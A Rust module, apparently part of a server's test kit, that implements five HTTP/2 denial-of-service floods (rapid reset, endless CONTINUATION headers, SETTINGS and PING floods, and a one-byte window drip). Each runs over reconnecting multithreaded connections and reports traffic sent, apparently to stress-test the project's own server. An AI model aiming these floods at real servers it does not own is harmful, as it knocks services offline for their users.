//! Floods on HTTP/2: frames that cost their sender little, sent as fast as the server takes them, over connections that are
//! made again whenever the server ends one.
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use wh_testkit::flood::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, head,
    odd, preface,
};
use wh_testkit::flood::{Attacker, SelfSigned};

/// Threads that attack.
const THREADS: usize = 2;
/// Frames that are sent at once.
const BURST: u32 = 2_048;
/// Requests at the same time on one connection: as many as the server lets a client have.
const STREAMS: u32 = 100;
/// An attacker who gets no further for so long makes another connection.
const PATIENCE: Duration = Duration::from_secs(1);
/// How long an attacker waits for the next bytes of the server before the next burst.
const GLANCE: Duration = Duration::from_millis(1);
/// An answer of some size.
const PATH: &str = "/v1/openapi.json";

/// One kind of flood.
pub struct Flood {
    /// In one word.
    pub name: &'static str,
    /// Connections of each thread.
    connections: usize,
    /// What a connection begins with.
    opening: Vec<u8>,
    /// What it is sent again and again; nothing where the opening is the attack.
    burst: Vec<u8>,
}

impl Flood {
    /// All of them.
    pub fn all() -> Vec<Self> {
        let request = |n| frame(HEADERS, END_HEADERS | END_STREAM, odd(n), &head(PATH));
        let resets =
            (0..BURST).flat_map(|n| [request(n), frame(RST_STREAM, 0, odd(n), &8_u32.to_be_bytes())]);
        // A head that never ends.
        let endless = frame(HEADERS, END_STREAM, 1, &head(PATH));
        let more = frame(CONTINUATION, 0, 1, &[0x82; 16_384]).repeat(64);
        // HEADER_TABLE_SIZE up and down; each has to be acknowledged.
        let settings =
            (0..BURST).map(|n| frame(SETTINGS, 0, 0, &[0, 1, 0, 0, if n % 2 == 0 { 0 } else { 16 }, 0]));
        let pings = (0..BURST).map(|n| frame(PING, 0, 0, &u64::from(n).to_be_bytes()));
        // INITIAL_WINDOW_SIZE of one byte, and then room for one byte more of each answer.
        let answers = (0..STREAMS).map(request);
        let drip = (0..STREAMS).map(|n| frame(WINDOW_UPDATE, 0, odd(n), &1_u32.to_be_bytes()));
        vec![
            Self::new("rapid_reset", 4, [preface(&[]), joined(resets)].concat(), Vec::new()),
            Self::new("continuation", 4, [preface(&[]), endless].concat(), more),
            Self::new("settings", 1, preface(&[]), joined(settings)),
            Self::new("ping", 1, preface(&[]), joined(pings)),
            Self::new("window", 32, [preface(&[0, 4, 0, 0, 0, 1]), joined(answers)].concat(), joined(drip)),
        ]
    }

    fn new(name: &'static str, connections: usize, opening: Vec<u8>, burst: Vec<u8>) -> Self {
        Self { name, connections, opening, burst }
    }

    /// Attack until then, and say how much it was.
    pub fn run(&self, own: &SelfSigned, address: SocketAddr, until: Instant) {
        let (connections, bytes) = (AtomicU64::new(0), AtomicU64::new(0));
        std::thread::scope(|scope| {
            for _ in 0..THREADS {
                scope.spawn(|| self.storm(own, address, until, &connections, &bytes));
            }
        });
        let megabytes = bytes.into_inner() as f64 / 1e6;
        eprintln!("{}: {} connections, {megabytes:.1} MB", self.name, connections.into_inner());
    }

    fn storm(
        &self,
        own: &SelfSigned,
        address: SocketAddr,
        until: Instant,
        connections: &AtomicU64,
        bytes: &AtomicU64,
    ) {
        let mut held: Vec<Attacker> = Vec::new();
        while Instant::now() < until {
            if held.len() < self.connections
                && let Ok(stream) = own.connect(address, &["h2"], PATIENCE)
            {
                let mut attacker = Attacker::on(stream);
                connections.fetch_add(1, Ordering::Relaxed);
                bytes.fetch_add(self.opening.len() as u64, Ordering::Relaxed);
                if attacker.send(&self.opening) {
                    held.push(attacker);
                }
            }
            held.retain_mut(|attacker| {
                bytes.fetch_add(self.burst.len() as u64, Ordering::Relaxed);
                attacker.send(&self.burst) && attacker.listen(GLANCE)
            });
        }
    }
}

fn joined(frames: impl Iterator<Item = Vec<u8>>) -> Vec<u8> {
    frames.flatten().collect()
}
